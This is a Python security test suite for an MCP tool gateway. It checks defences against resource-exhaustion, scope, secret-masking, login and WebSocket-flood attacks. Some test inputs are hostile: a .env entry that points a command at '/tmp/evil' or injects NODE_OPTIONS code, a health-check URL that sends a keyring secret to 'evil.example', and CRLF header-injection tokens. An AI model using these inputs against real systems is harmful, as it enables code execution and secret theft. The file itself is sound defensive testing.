"""Attacks that follow from SECURITY.md and docs/ alone, without the source."""

from __future__ import annotations

import asyncio
import json
import re
import sqlite3
import sys
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest
from sqlalchemy import text
from typer.testing import CliRunner
from websockets.asyncio.server import ServerConnection, serve

from tests.cli.conftest import Machine, machine
from tests.gateway.edge_lab import edge, handshake, message_of, modern
from toolway import CallError, Hub
from toolway.audit.chain import AuditChain
from toolway.audit.log import create_sink
from toolway.audit.mac import RecordMacs
from toolway.audit.sink import ChainHead, encode_record, link_records
from toolway.cli.app import app
from toolway.cluster.db.engine import open_engine, upgrade_schema
from toolway.config.approval.accesses import entry_accesses
from toolway.config.settings import AuditSettings
from toolway.gateway.mcp import subscriptions
from toolway.http.client import HttpTarget
from toolway.middleware import cache
from toolway.openapi.loader import load_document
from toolway.openapi.models import OperationSelection
from toolway.protocol import sanitize
from toolway.secrets import replacer
from toolway.testing import fake_server
from toolway.upstream.transport import Disconnect
from toolway.upstream.transports.websocket_connection import WebSocketConnection

__all__ = ["machine"]  # the fixture

pytestmark = pytest.mark.anyio


# -- the gateway over the network --------------------------------------------------------------------------------------


@pytest.mark.attack("R2-A-1")
async def test_subscription_uris_are_bounded_per_caller(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(subscriptions, "MAX_CALLER_BYTES", 100_000)
    path = "/mcp/server/a"
    async with edge(tmp_path) as found:

        async def subscribe(token: str, session: str, name: str) -> bool:
            body = handshake("resources/subscribe", {"uri": f"fake://item/{name}"})
            answer = await found.ask("POST", path, body, {"Mcp-Session-Id": session}, token=token)
            return "result" in message_of(answer)

        mallory, other = found.key(), found.key()
        sessions = [await found.initialize(path, token=mallory) for _ in range(2)]
        granted = [await subscribe(mallory, each, f"{i}" + "x" * 30_000) for each in sessions for i in range(3)]
        assert granted == [True] * 3 + [False] * 3  # for all sessions together
        wanted = {"resourceSubscriptions": ["fake://item/" + "y" * 30_000]}
        body, fields = modern("subscriptions/listen", {"notifications": wanted})
        async with found.connected() as client:
            await client.send(found.request("POST", path, body, fields, token=mallory))
            await client.head()
            assert b'"resourceSubscriptions":[]' in await anext(aiter(client.chunks()))
        assert await subscribe(other, await found.initialize(path, token=other), "1")
        ended = await found.ask("DELETE", path, fields={"Mcp-Session-Id": sessions[0]}, token=mallory)
        assert ended.status < 300
        assert await subscribe(mallory, sessions[1], "x" * 30_000)  # the end of a session makes room


@pytest.mark.attack("R2-A-2")
async def test_unknown_field_in_a_key_request_is_rejected(tmp_path: Path) -> None:
    async with edge(tmp_path) as found:
        for field in ({"scope": ["both"]}, {"Scopes": ["both"]}, {"rateLimit": "1/s"}, {"admin": "false"}):
            answer = await found.ask("POST", "/admin/keys", {"name": "ci", **field})
            assert answer.status == 400, (field, answer.body)
        assert not found.keyring.list_keys()
        right = {"name": "ci", "scopes": ["both"], "admin": False, "rate": "1/s"}
        assert (await found.ask("POST", "/admin/keys", right)).status == 200


@pytest.mark.attack("R2-A-3")
async def test_pattern_in_a_key_scope_is_rejected(tmp_path: Path) -> None:
    async with edge(tmp_path) as found:
        for scope in ("server/*", "server/?", "server/a*", "*", "", "server/", "/admin", "both\n"):
            answer = await found.ask("POST", "/admin/keys", {"name": "ci", "scopes": [scope]})
            assert (answer.status, json.loads(answer.body)["error"]["code"]) == (422, "E-KEYS-NEW"), scope
        for scope in ("both", "server/a", "/metrics"):
            assert (await found.ask("POST", "/admin/keys", {"name": "ci", "scopes": [scope]})).status == 200
        token = found.key("server/a")
        assert await found.tools(token=token)
        file = tmp_path / "keys.json"
        file.write_text(file.read_text().replace("server/a", "server/*"))  # a key of an earlier version
        found.keyring.reload()
        assert not await found.tools(token=token)


@pytest.mark.attack("R2-A-4")
async def test_uris_of_finished_reads_are_truncated(tmp_path: Path) -> None:
    async with edge(tmp_path) as found:
        for start in ("fake://item/", "unknown://"):
            body = handshake("resources/read", {"uri": start + "x" * 1_000_000})
            await found.ask("POST", "/mcp/server/a", body)
        calls = (await found.ask("GET", "/admin/calls")).body
        assert b"fake://item/xxx" in calls and len(calls) < 20_000


@pytest.mark.attack("R2-A-5")
async def test_arguments_of_cached_calls_are_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(cache, "MAX_BYTES", 3_000_000)
    entry = {"tools": {"echo": {"effect": "read", "cache": "1h"}}}
    async with Hub({"a": {**fake_server(), **entry}}) as hub:
        await hub.list_tools()

        async def is_cached(text: str, count: int) -> bool:
            arguments = {"text": "hello", "more": text * count}
            return (await hub.call_tool("a.echo", arguments)).from_cache

        assert not await is_cached("x", 10) and await is_cached("x", 10)
        assert not await is_cached("y", 1_100_000) and not await is_cached("y", 1_100_000)  # too large to be a key
        for text in "abcd":
            assert not await is_cached(text, 900_000)
        assert await is_cached("d", 900_000) and not await is_cached("a", 900_000)


# -- the local machine -------------------------------------------------------------------------------------------------


@pytest.mark.attack("R2-B-1")
def test_env_file_variable_that_changes_a_command_needs_trust(machine: Machine) -> None:
    def used() -> list[str]:
        return list(json.loads(machine.toolway("config", "validate", "--json").stdout)["servers"])

    reads_variables = {"command": "${PROGRAM:-safe}", "args": ["-m", "x"], "env": {"API_TOKEN": "${API_TOKEN:-none}"}}
    loads_code = {"command": "safe", "env": {"NODE_OPTIONS": "${MORE:-}"}}
    machine.write(".config/toolway/mcp.json", {"mcpServers": {"one": reads_variables, "two": loads_code}})
    dotenv = machine.home / ".config/toolway/.env"
    dotenv.write_text("API_TOKEN=first\n")
    assert used() == ["one", "two"]  # the first start takes what is there
    dotenv.write_text("API_TOKEN=second\n")
    assert used() == ["one", "two"]  # a new token selects no program
    dotenv.write_text("API_TOKEN=second\nPROGRAM=/tmp/evil\nMORE=--require=/tmp/evil.js\n")
    assert used() == []

    machine.toolway("add", "three", "--", "other")  # a command of the user approves nothing of it
    assert used() == ["three"]
    review = json.loads(machine.toolway("trust", "one", "--json").stdout)
    assert "PROGRAM=/tmp/evil" in json.dumps(review)
    digest = re.search(r'"digest": "(\w{64})"', json.dumps(review))
    assert digest is not None
    machine.toolway("trust", "one", "--digest", digest[1])
    assert used() == ["one", "three"]
    dotenv.write_text("PROGRAM=/tmp/worse\n")
    assert used() == ["two", "three"]
    dotenv.unlink()
    assert used() == ["one", "two", "three"]


@pytest.mark.attack("R2-B-2")
def test_secret_with_invisible_characters_inside_is_masked(tmp_path: Path) -> None:
    secret = "Zq8wT3xK9-Lm2vB"
    program = (
        "import os, sys\nsecret = os.environ['PLAIN']\n"
        "for between in '\\u200b', '\\0', '\\x08', '\\u00ad', '\\ufe0f', '\\u202e', '\\U000e0041':\n"
        "    print('x', between.join(secret), file=sys.stderr)\nsys.exit(3)"
    )
    entry = {"command": sys.executable, "args": ["-c", program], "env": {"PLAIN": secret, "PYTHONUTF8": "1"}}
    file = tmp_path / "mcp.json"
    file.write_text(json.dumps({"mcpServers": {"telltale": entry}}))
    for words in (["logs", "telltale", "--wait", "5"], ["show", "telltale", "--wait", "5"]):
        done = CliRunner().invoke(app, [*words, "--config", str(file)])
        assert "***" in done.output and secret not in sanitize.remove_invisible(done.output + done.stderr), words
    assert replacer.UNPRINTABLE.pattern == sanitize._UNPRINTABLE.pattern


@pytest.mark.attack("R2-B-3")
def test_review_shows_the_actual_receiver_of_a_secret() -> None:
    for key in (
        {"healthCheckUrl": "https://evil.example/${keyring:bank}"},
        {"health": {"url": "https://evil.example/${keyring:bank}"}},
    ):
        sent = [each for each in entry_accesses({"url": "https://good.example/mcp", **key}) if each.kind == "sends"]
        assert [each.to for each in sent] == ["https://evil.example"]


@pytest.mark.attack("R2-B-4")
def test_review_shows_code_folders_that_look_like_tokens(machine: Machine) -> None:
    folder = "AKIAIOSFODNN7EXAMPLE"  # a folder of the repository with the form of a token
    env = {"PYTHONPATH": folder, "NODE_OPTIONS": f"sk-{folder}", "API_TOKEN": f"sk-{folder}x"}
    machine.write("project/.mcp.json", {"mcpServers": {"x": {"command": "python3", "args": ["-m", "y"], "env": env}}})
    shown = machine.toolway("trust").stdout
    assert f'"{folder}"' in shown and f'"sk-{folder}"' in shown
    assert f"sk-{folder}x" not in shown


@pytest.mark.attack("R2-B-5")
def test_log_without_macs_fails_verification_through_a_link(tmp_path: Path) -> None:
    folder = tmp_path / "real"
    folder.mkdir()
    (tmp_path / "link").symlink_to(folder)
    settings = AuditSettings(to="sqlite", file=str(folder / "audit.sqlite"))
    chain = AuditChain(create_sink(settings), RecordMacs.load(settings))
    chain.open()
    chain.write([encode_record("call.intent", 1_700_000_000.0 + n, n, {"call": f"c{n}"}) for n in range(3)])
    chain.close()
    sink = create_sink(settings)
    sink.open()
    bodies = [re.sub(rb'^\{"seq":\d+,"prev":"\w+",', b"{", row.body) for row in sink.read_forward()]
    sink.close()
    Path(settings.file).unlink()
    sink = create_sink(settings)
    sink.open()
    sink.append(link_records(ChainHead(), [re.sub(rb',"mac":"\w+"\}$', b"}", body) for body in bodies]))
    sink.close()
    for place in ("real", "link"):
        done = CliRunner().invoke(app, ["audit", "verify", "--log", str(tmp_path / place / "audit.sqlite")])
        assert done.exit_code == 9, place


# -- C: hostile servers, logins, clusters ------------------------------------------------------------------------------


@pytest.mark.attack("R2-C-1")
async def test_reading_the_database_file_does_not_undo_writes(tmp_path: Path) -> None:
    """Another process opens the file and closes it. If the node had no locks, that would delete the `-wal` file: the
    node would continue writing into a deleted file, and a restart would bring back what was there before."""
    file = tmp_path / "record"
    engine = open_engine(f"sqlite:///{file}")
    try:
        await upgrade_schema(engine)
        async with engine.begin() as first:
            await first.execute(text("UPDATE revisions SET last = 1"))
        one, two = await engine.connect().start(), await engine.connect().start()  # more than one, as in a node
        await asyncio.gather(one.close(), two.close())
        read = (
            "import sqlite3, sys; db = sqlite3.connect(sys.argv[1]); db.execute('SELECT * FROM api_keys'); db.close()"
        )
        reader = await asyncio.create_subprocess_exec(sys.executable, "-c", read, str(file))
        assert await reader.wait() == 0
        async with engine.begin() as later:
            await later.execute(text("UPDATE revisions SET last = 2"))
        with sqlite3.connect(file) as db:
            assert db.execute("SELECT last FROM revisions").fetchall() == [(2,)]
        assert file.with_name("record-wal").exists()
    finally:
        await engine.dispose()


@pytest.mark.attack("R2-C-2")
@pytest.mark.parametrize(
    "answer",
    [
        b"access_token=AT-of-the-user&token_type=bearer",
        b'{"token_type": "Bearer", "refresh_token": "RT-of-the-user"}',
        b'["AT-of-the-user"]',
        b'{"access_token": {"value": "AT-of-the-user"}, "token_type": "Bearer"}',
    ],
)
async def test_login_error_shows_no_token(answer: bytes) -> None:
    """An issuer that answers in another form than expected, as some do, must not bring tokens into errors and logs."""
    failed = await _login_with(answer)
    assert "the login failed" in failed
    assert "of-the-user" not in failed


@pytest.mark.attack("R2-C-2")
async def test_login_error_shows_no_request_data() -> None:
    failed = await _login_with(b"you sent code-of-the-user", status="303 See Other")
    assert "did not issue a token (303)" in failed
    assert "of-the-user" not in failed


@pytest.mark.attack("R2-C-3")
@pytest.mark.parametrize("token", ["a\\r\\nX-Admin: 1", "a\\u0000b", "", "a b"])
async def test_token_with_invalid_characters_is_rejected_at_login(token: str) -> None:
    """Such a token is refused when the login ends, and not stored: each later start would fail with it."""
    failed = await _login_with(f'{{"access_token": "{token}", "token_type": "Bearer"}}'.encode())
    assert "it returned a token that is empty, or has characters other than visible ASCII" in failed


async def _login_with(answer: bytes, status: str = "200 OK") -> str:
    """The error of a call to a server whose issuer responds to the request for a token with `answer`."""

    async def respond(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            head = (await reader.readuntil(b"\r\n\r\n")).decode()
        except asyncio.IncompleteReadError:  # the hub closed before it asked for anything
            writer.close()
            return
        length = next((int(line[15:]) for line in head.lower().split("\r\n") if line.startswith("content-length:")), 0)
        body = await reader.readexactly(length)
        path = head.split()[1].partition("?")[0]
        own = f"http://127.0.0.1:{port}"
        metadata = {
            "issuer": own,
            "authorization_endpoint": f"{own}/authorize",
            "token_endpoint": f"{own}/token",
            "registration_endpoint": f"{own}/register",
            "response_types_supported": ["code"],
            "code_challenge_methods_supported": ["S256"],
        }
        found: dict[str, tuple[str, Any]] = {
            "/resource": ("200 OK", {"resource": f"{own}/mcp", "authorization_servers": [own]}),
            "/.well-known/oauth-authorization-server": ("200 OK", metadata),
            "/register": (
                "201 Created",
                {**json.loads(body or b"{}"), "client_id": "c"} if path == "/register" else {},
            ),
            "/token": (status, answer),
            "/mcp": ("401 Unauthorized", {}),
        }
        line, content = found.get(path, ("404 Not Found", {}))
        data = content if isinstance(content, bytes) else json.dumps(content).encode()
        writer.write(
            f"HTTP/1.1 {line}\r\nContent-Type: application/json\r\nContent-Length: {len(data)}\r\nConnection: close\r\n"
            f'WWW-Authenticate: Bearer resource_metadata="{own}/resource"\r\n\r\n'.encode()
            + data
        )
        await writer.drain()
        writer.close()

    async def log_in(server: str, url: str) -> str:
        asked = parse_qs(urlsplit(url).query)
        return f"{asked['redirect_uri'][0]}?code=code-of-the-user&state={asked['state'][0]}"

    listener = await asyncio.start_server(respond, "127.0.0.1", 0)
    port = listener.sockets[0].getsockname()[1]
    async with listener, Hub({"x": f"http://127.0.0.1:{port}/mcp"}, login_callback=log_in, token_store=None) as hub:
        with pytest.raises(CallError) as failed:
            await hub.call_tool("x.t")
        return f"{failed.value} {hub.status()}"


@pytest.mark.attack("R2-C-4")
def test_fully_url_encoded_secret_is_masked() -> None:
    secret = "Tq7vLm2Xk9Zp4Rw8"
    encoded = "".join(f"%{ord(char):02X}" for char in secret)
    mask = replacer.build_replacer([secret])
    assert mask(f"at /{encoded}/x and {encoded.lower()}") == "at /***/x and ***"


@pytest.mark.attack("R2-C-5")
@pytest.mark.parametrize(("of_entry", "of_document"), [("X-Api-Key", "X_Api_Key"), ("x_api_key", "X-Api-Key")])
def test_document_cannot_replace_an_entry_header_by_spelling(of_entry: str, of_document: str) -> None:
    """CGI and WSGI servers take `X_Api_Key` and `X-Api-Key` for the same header."""
    names = [of_document, "Content_Length", "X-Other"]
    parameters = [{"name": name, "in": "header", "schema": {"type": "string"}} for name in names]
    operation = {"operationId": "o", "parameters": parameters, "responses": {"200": {"description": ""}}}
    document = {"openapi": "3.0.3", "info": {"title": "t", "version": "1"}, "paths": {"/o": {"get": operation}}}
    loaded = load_document(
        json.dumps(document).encode(),
        source="x",
        selection=OperationSelection(),
        operator_supplied=frozenset({of_entry, of_entry.lower()}),
    )
    arguments = [each.name for each in loaded.operations[0].parameters if not each.operator_supplied]
    assert arguments == ["X-Other"]


class _Received:
    """Receiver of a WebSocket connection that records messages, and in which turn of the loop bytes were parsed."""

    def __init__(self) -> None:
        self.events: list[str] = []
        self.parts: list[int] = []
        self.turns: set[int] = set()
        self.turn = 0
        self.ended = asyncio.Event()

    def on_text(self, message: bytes) -> None:
        self.events.append(message.decode())

    def on_binary(self, message: bytes) -> None:
        raise AssertionError(message)

    def on_received(self, size: int) -> None:
        self.parts.append(size)
        self.turns.add(self.turn)

    def on_write_stuck(self) -> None:
        raise AssertionError

    def on_end(self, disconnect: Disconnect) -> None:
        self.events.append(disconnect.code)
        self.ended.set()


@pytest.mark.attack("R2-C-6")
@pytest.mark.parametrize("frame", [b"\x89\x00", b"\x00\x00"], ids=["pings", "fragments"])
async def test_websocket_flood_of_empty_frames_does_not_block_the_loop(frame: bytes) -> None:
    async def flood(connection: ServerConnection) -> None:
        start = b"\x01\x01o" if frame[0] == 0 else b""  # the first fragment of a message
        end = b"\x80\x01k" if frame[0] == 0 else b"\x81\x02ok"
        connection.transport.write(start + frame * 12_000 + end)
        await connection.close(1001)

    received = _Received()
    async with serve(flood, "127.0.0.1", 0, compression=None) as server:
        port = next(iter(server.sockets)).getsockname()[1]
        target = HttpTarget.parse(f"http://127.0.0.1:{port}/")
        loop = asyncio.get_running_loop()
        _, connection = await loop.create_connection(
            lambda: WebSocketConnection(received, target, 1_000_000, 10.0), "127.0.0.1", port
        )
        await connection.shake_hands({})
        while not received.ended.is_set():
            received.turn += 1
            await asyncio.sleep(0)
        connection.abort()
    assert received.events == ["ok", "E-WS-CLOSED"]
    assert max(received.parts) <= 2048 and len(received.turns) > 5  # others had their turns between the parts
